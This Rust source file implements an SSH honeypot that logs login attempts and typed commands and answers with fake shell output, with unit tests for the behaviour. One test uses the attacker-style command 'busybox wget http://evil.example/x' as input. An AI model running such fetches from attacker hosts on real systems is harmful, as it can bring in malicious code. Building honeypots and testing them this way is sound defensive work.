use std::net::SocketAddr;
use std::sync::Arc;

use async_trait::async_trait;
use chrono::Local;
use russh::keys::PublicKey;
use russh::server::{Auth, Handler, Msg, Session};
use russh::{server, Channel, ChannelId, CryptoVec, Error, Pty};
use tokio::sync::{OwnedSemaphorePermit, Semaphore};
use uuid::Uuid;

use crate::auth::CredentialPolicy;
use crate::events::{AuthAttempt, CommandEvent};
use crate::shell::CommandEngine;
use crate::telemetry::TelemetryHandle;
use crate::terminal::{LineDiscipline, TerminalAction};

const LOGOUT_MESSAGE: &str = "logout\r\nConnection to host closed.\r\n";

/// What the read-eval loop decided to do with one submitted line.
#[derive(Debug, PartialEq, Eq)]
enum LineOutcome {
    /// Blank or prompt echo, nothing to report or answer
    Ignored,
    /// The attacker asked to leave
    Close,
    /// Fake output to write back, line by line
    Output(Vec<String>),
}

// One handler per accepted connection, owning that connection's session state
pub struct SshHandler {
    connection_id: Uuid,
    peer: Option<SocketAddr>,
    credentials: CredentialPolicy,
    hostname: String,
    authentication_banner: Option<String>,
    engine: CommandEngine,
    telemetry: TelemetryHandle,
    /// Present while this connection holds an admission slot
    permit: Option<OwnedSemaphorePermit>,
    authenticated: bool,
    username: Option<String>,
    prompt: String,
    term: LineDiscipline,
    term_width: u32,
    term_height: u32,
    shell_active: bool,
}

#[async_trait]
impl Handler for SshHandler {
    type Error = russh::Error;

    fn auth_password(
        &mut self,
        user: &str,
        password: &str,
    ) -> impl Future<Output = Result<Auth, Self::Error>> + Send {
        async move {
            let ip = self.peer_ip();
            log::info!(
                "[{}] Password auth attempt - Username: {}, Password: {}, IP: {}",
                self.connection_id, user, password, ip
            );

            let accepted = self.permit.is_some() && self.credentials.verify(user, password);

            // Exactly one attempt event per credential offer, accepted or not
            self.telemetry.report_auth(AuthAttempt::new(
                ip,
                user.to_string(),
                password.to_string(),
                accepted,
            ));

            if accepted {
                log::info!("[{}] Accepted credentials for {}", self.connection_id, user);
                self.authenticated = true;
                self.username = Some(user.to_string());
                self.prompt = format!("{}@{}:/$ ", user, self.hostname);
                Ok(Auth::Accept)
            } else {
                Ok(Auth::reject())
            }
        }
    }

    // Password-only policy: a key offer is never checked, only refused
    fn auth_publickey(
        &mut self,
        user: &str,
        _public_key: &PublicKey,
    ) -> impl Future<Output = Result<Auth, Self::Error>> + Send {
        async move {
            log::debug!("[{}] Rejecting public key offer for {}", self.connection_id, user);
            Ok(Auth::reject())
        }
    }

    fn authentication_banner(
        &mut self,
    ) -> impl Future<Output = Result<Option<String>, Self::Error>> + Send {
        async move {
            log::trace!("Displaying banner: {:?}", self.authentication_banner.as_ref());
            Ok(self.authentication_banner.clone())
        }
    }

    fn channel_open_session(
        &mut self,
        channel: Channel<Msg>,
        _session: &mut Session,
    ) -> impl Future<Output = Result<bool, Self::Error>> + Send {
        async move {
            log::debug!("[{}] Open session on channel: {}", self.connection_id, channel.id());
            Ok(true)
        }
    }

    // Anything that is not a session channel tears the whole connection
    // down, not just the one channel. Deliberate simplification carried
    // over from the deployed behavior; see DESIGN.md before changing it.
    fn channel_open_direct_tcpip(
        &mut self,
        _channel: Channel<Msg>,
        host_to_connect: &str,
        port_to_connect: u32,
        _originator_address: &str,
        _originator_port: u32,
        _session: &mut Session,
    ) -> impl Future<Output = Result<bool, Self::Error>> + Send {
        async move {
            log::info!(
                "[{}] Unknown channel type: direct-tcpip to {}:{}, closing connection",
                self.connection_id, host_to_connect, port_to_connect
            );
            Err(Error::Disconnect)
        }
    }

    fn channel_open_x11(
        &mut self,
        _channel: Channel<Msg>,
        _originator_address: &str,
        _originator_port: u32,
        _session: &mut Session,
    ) -> impl Future<Output = Result<bool, Self::Error>> + Send {
        async move {
            log::info!("[{}] Unknown channel type: x11, closing connection", self.connection_id);
            Err(Error::Disconnect)
        }
    }

    fn shell_request(
        &mut self,
        channel: ChannelId,
        session: &mut Session,
    ) -> impl Future<Output = Result<(), Self::Error>> + Send {
        async move {
            log::debug!(
                "[{}] Shell request on channel {} for user {:?} ({}x{} terminal)",
                self.connection_id, channel, self.username, self.term_width, self.term_height
            );
            self.shell_active = true;
            session.channel_success(channel)?;

            let welcome = format!(
                "Welcome to Ubuntu 20.04.4 LTS (GNU/Linux 5.4.0-109-generic x86_64)\r\n\r\n * Documentation:  https://help.ubuntu.com\r\n * Management:     https://landscape.canonical.com\r\n * Support:        https://ubuntu.com/advantage\r\n\r\n  System information as of {}\r\n\r\nLast login: {} from 192.168.1.5\r\n",
                Local::now().format("%a %b %e %H:%M:%S %Y"),
                Local::now().format("%a %b %e %H:%M:%S %Y")
            );
            session.data(channel, CryptoVec::from_slice(welcome.as_bytes()))?;
            session.data(channel, CryptoVec::from_slice(self.prompt.as_bytes()))?;
            Ok(())
        }
    }

    // A request to run a specific program instead of a shell. Refused, but
    // the channel stays open so the client can still ask for a shell.
    fn exec_request(
        &mut self,
        channel: ChannelId,
        data: &[u8],
        session: &mut Session,
    ) -> impl Future<Output = Result<(), Self::Error>> + Send {
        let command = String::from_utf8_lossy(data).into_owned();
        async move {
            log::info!("[{}] Rejecting exec request: {}", self.connection_id, command);
            session.channel_failure(channel)?;
            Ok(())
        }
    }

    fn pty_request(
        &mut self,
        channel: ChannelId,
        term: &str,
        col_width: u32,
        row_height: u32,
        _pix_width: u32,
        _pix_height: u32,
        _modes: &[(Pty, u32)],
        session: &mut Session,
    ) -> impl Future<Output = Result<(), Self::Error>> + Send {
        async move {
            log::debug!(
                "[{}] pty-req: term={}, {}x{}",
                self.connection_id, term, col_width, row_height
            );
            self.set_window_size(col_width, row_height);
            session.channel_success(channel)?;
            Ok(())
        }
    }

    fn window_change_request(
        &mut self,
        channel: ChannelId,
        col_width: u32,
        row_height: u32,
        _pix_width: u32,
        _pix_height: u32,
        session: &mut Session,
    ) -> impl Future<Output = Result<(), Self::Error>> + Send {
        async move {
            log::trace!("[{}] window-change: {}x{}", self.connection_id, col_width, row_height);
            self.set_window_size(col_width, row_height);
            session.channel_success(channel)?;
            Ok(())
        }
    }

    fn data(
        &mut self,
        channel: ChannelId,
        data: &[u8],
        session: &mut Session,
    ) -> impl Future<Output = Result<(), Self::Error>> + Send {
        async move {
            if !self.shell_active {
                log::trace!("[{}] Ignoring {} bytes before shell is active", self.connection_id, data.len());
                return Ok(());
            }

            for action in self.term.feed(data) {
                match action {
                    TerminalAction::Echo(bytes) => {
                        session.data(channel, CryptoVec::from_slice(&bytes))?;
                    }
                    TerminalAction::Interrupt => {
                        let redraw = format!("\r\n{}", self.prompt);
                        session.data(channel, CryptoVec::from_slice(redraw.as_bytes()))?;
                    }
                    TerminalAction::EndOfInput => {
                        log::debug!("[{}] Client sent EOF, closing session", self.connection_id);
                        let goodbye = format!("\r\n{}", LOGOUT_MESSAGE);
                        session.data(channel, CryptoVec::from_slice(goodbye.as_bytes()))?;
                        return Err(Error::Disconnect);
                    }
                    TerminalAction::Submit(line) => {
                        session.data(channel, CryptoVec::from_slice(b"\r\n"))?;
                        match self.respond_to_line(&line) {
                            LineOutcome::Ignored => {
                                session.data(channel, CryptoVec::from_slice(self.prompt.as_bytes()))?;
                            }
                            LineOutcome::Close => {
                                log::debug!("[{}] Closing session due to exit command", self.connection_id);
                                session.data(channel, CryptoVec::from_slice(LOGOUT_MESSAGE.as_bytes()))?;
                                return Err(Error::Disconnect);
                            }
                            LineOutcome::Output(lines) => {
                                for line in lines {
                                    let line = format!("{}\r\n", line);
                                    session.data(channel, CryptoVec::from_slice(line.as_bytes()))?;
                                }
                                session.data(channel, CryptoVec::from_slice(self.prompt.as_bytes()))?;
                            }
                        }
                    }
                }
            }
            Ok(())
        }
    }
}

impl SshHandler {
    fn peer_ip(&self) -> String {
        self.peer
            .map(|addr| addr.ip().to_string())
            .unwrap_or_else(|| "unknown".to_string())
    }

    fn set_window_size(&mut self, width: u32, height: u32) {
        self.term_width = width;
        self.term_height = height;
    }

    /// The read-eval decision for one submitted line, separated from the
    /// channel writes so it can be exercised without a live session.
    fn respond_to_line(&mut self, line: &str) -> LineOutcome {
        let line = line.trim();
        if line.is_empty() || line == self.prompt.trim_end() {
            return LineOutcome::Ignored;
        }

        log::info!("[{}] {}: command: {}", self.connection_id, self.peer_ip(), line);
        self.telemetry
            .report_command(CommandEvent::new(self.peer_ip(), line.to_string()));

        if line == "exit" || line == "logout" {
            return LineOutcome::Close;
        }

        let mut tokens = line.split_whitespace();
        let command = tokens.next().unwrap_or_default();
        let args: Vec<&str> = tokens.collect();
        LineOutcome::Output(self.engine.evaluate(command, &args))
    }
}

impl Drop for SshHandler {
    // A connection that ends without a successful authentication counts as
    // a failed handshake, whether the client never tried or every offer was
    // rejected. Recorded with the sentinel username so analysis can tell
    // handshake noise from credential guesses.
    fn drop(&mut self) {
        if !self.authenticated {
            let ip = self.peer_ip();
            log::debug!("[{}] Connection from {} closed unauthenticated", self.connection_id, ip);
            self.telemetry.report_auth(AuthAttempt::handshake_failure(ip));
        }
    }
}

// One of these per listening interface; hands out per-connection handlers
pub struct HoneypotServer {
    credentials: CredentialPolicy,
    hostname: String,
    authentication_banner: Option<String>,
    engine: CommandEngine,
    telemetry: TelemetryHandle,
    connection_limit: Arc<Semaphore>,
}

impl server::Server for HoneypotServer {
    type Handler = SshHandler;

    // Create a new handler for each connection
    fn new_client(&mut self, peer_addr: Option<SocketAddr>) -> Self::Handler {
        log::info!("New connection from: {:?}", peer_addr);

        let permit = self.connection_limit.clone().try_acquire_owned().ok();
        if permit.is_none() {
            log::warn!("Connection limit reached, refusing authentication for {:?}", peer_addr);
        }

        SshHandler {
            connection_id: Uuid::new_v4(),
            peer: peer_addr,
            credentials: self.credentials.clone(),
            hostname: self.hostname.clone(),
            authentication_banner: self.authentication_banner.clone(),
            engine: self.engine.clone(),
            telemetry: self.telemetry.clone(),
            permit,
            authenticated: false,
            username: None,
            prompt: String::new(),
            term: LineDiscipline::new(),
            term_width: 80,
            term_height: 24,
            shell_active: false,
        }
    }

    fn handle_session_error(&mut self, error: <Self::Handler as Handler>::Error) {
        match error {
            <Self::Handler as Handler>::Error::Disconnect => {}
            _ => {
                log::error!("Session error: {:#?}", error);
            }
        }
    }
}

impl HoneypotServer {
    pub fn new(
        credentials: CredentialPolicy,
        hostname: String,
        authentication_banner: Option<String>,
        engine: CommandEngine,
        telemetry: TelemetryHandle,
        connection_limit: Arc<Semaphore>,
    ) -> HoneypotServer {
        Self {
            credentials,
            hostname,
            authentication_banner,
            engine,
            telemetry,
            connection_limit,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::ResponseStore;
    use crate::telemetry;
    use russh::server::Server as _;
    use tokio::sync::mpsc;

    fn test_server(
        max_connections: usize,
    ) -> (HoneypotServer, mpsc::Receiver<AuthAttempt>, mpsc::Receiver<CommandEvent>) {
        let (handle, auth_rx, command_rx) = telemetry::test_handle(16);
        let store = ResponseStore::from_entries([
            ("wget-help", vec!["GNU Wget 1.17.1, a non-interactive network retriever."]),
            ("ls", vec!["bin", "etc"]),
        ]);
        let server = HoneypotServer::new(
            CredentialPolicy::new("admin".to_string(), "dadada".to_string()),
            "localhost.localdomain".to_string(),
            None,
            CommandEngine::new(Arc::new(store)),
            handle,
            Arc::new(Semaphore::new(max_connections)),
        );
        (server, auth_rx, command_rx)
    }

    #[tokio::test]
    async fn rejected_credentials_emit_failed_attempt_and_handshake_sentinel() {
        let (mut server, mut auth_rx, _command_rx) = test_server(4);
        let mut handler = server.new_client(Some("203.0.113.9:4711".parse().unwrap()));

        let auth = handler.auth_password("root", "toor").await.unwrap();
        assert!(matches!(auth, Auth::Reject { .. }));

        let attempt = auth_rx.try_recv().unwrap();
        assert_eq!(attempt.ip, "203.0.113.9");
        assert_eq!(attempt.username, "root");
        assert_eq!(attempt.password, "toor");
        assert!(!attempt.succeeded);

        // Connection ends without ever authenticating
        drop(handler);
        let sentinel = auth_rx.try_recv().unwrap();
        assert_eq!(sentinel.username, "handshake");
        assert_eq!(sentinel.password, "handshake");
        assert!(!sentinel.succeeded);
    }

    #[tokio::test]
    async fn accepted_credentials_emit_exactly_one_successful_attempt() {
        let (mut server, mut auth_rx, _command_rx) = test_server(4);
        let mut handler = server.new_client(Some("203.0.113.9:4711".parse().unwrap()));

        let auth = handler.auth_password("admin", "dadada").await.unwrap();
        assert!(matches!(auth, Auth::Accept));
        assert_eq!(handler.prompt, "admin@localhost.localdomain:/$ ");

        let attempt = auth_rx.try_recv().unwrap();
        assert!(attempt.succeeded);

        // No sentinel for an authenticated connection
        drop(handler);
        assert!(auth_rx.try_recv().is_err());
    }

    #[tokio::test]
    async fn over_capacity_connections_are_rejected_even_with_valid_credentials() {
        let (mut server, mut auth_rx, _command_rx) = test_server(1);
        let _first = server.new_client(Some("203.0.113.1:1000".parse().unwrap()));
        let mut second = server.new_client(Some("203.0.113.2:1000".parse().unwrap()));

        let auth = second.auth_password("admin", "dadada").await.unwrap();
        assert!(matches!(auth, Auth::Reject { .. }));

        // The attempt is still recorded
        let attempt = auth_rx.try_recv().unwrap();
        assert_eq!(attempt.ip, "203.0.113.2");
        assert!(!attempt.succeeded);
    }

    #[tokio::test]
    async fn dropping_a_handler_frees_its_admission_slot() {
        let (mut server, _auth_rx, _command_rx) = test_server(1);
        let first = server.new_client(None);
        assert!(first.permit.is_some());

        let second = server.new_client(None);
        assert!(second.permit.is_none());

        drop(first);
        let third = server.new_client(None);
        assert!(third.permit.is_some());
    }

    #[tokio::test]
    async fn window_dimension_updates_apply_to_the_session() {
        let (mut server, _auth_rx, _command_rx) = test_server(4);
        let mut handler = server.new_client(None);

        // Values as delivered from pty-req or window-change payloads
        handler.set_window_size(80, 24);
        assert_eq!((handler.term_width, handler.term_height), (80, 24));

        handler.set_window_size(120, 40);
        assert_eq!((handler.term_width, handler.term_height), (120, 40));
    }

    #[tokio::test]
    async fn each_nonempty_line_emits_one_command_event_in_order() {
        let (mut server, _auth_rx, mut command_rx) = test_server(4);
        let mut handler = server.new_client(Some("203.0.113.9:4711".parse().unwrap()));
        handler.auth_password("admin", "dadada").await.unwrap();

        assert_eq!(handler.respond_to_line(""), LineOutcome::Ignored);
        assert_eq!(handler.respond_to_line("admin@localhost.localdomain:/$"), LineOutcome::Ignored);

        let outcome = handler.respond_to_line("wget --help");
        assert_eq!(
            outcome,
            LineOutcome::Output(vec!["GNU Wget 1.17.1, a non-interactive network retriever.".to_string()])
        );
        assert_eq!(handler.respond_to_line("exit"), LineOutcome::Close);

        assert_eq!(command_rx.try_recv().unwrap().line, "wget --help");
        assert_eq!(command_rx.try_recv().unwrap().line, "exit");
        assert!(command_rx.try_recv().is_err());
    }

    #[tokio::test]
    async fn unknown_commands_flow_back_as_not_found() {
        let (mut server, _auth_rx, _command_rx) = test_server(4);
        let mut handler = server.new_client(None);
        handler.auth_password("admin", "dadada").await.unwrap();

        let outcome = handler.respond_to_line("busybox wget http://evil.example/x");
        assert_eq!(
            outcome,
            LineOutcome::Output(vec!["busybox: command not found".to_string()])
        );
    }
}
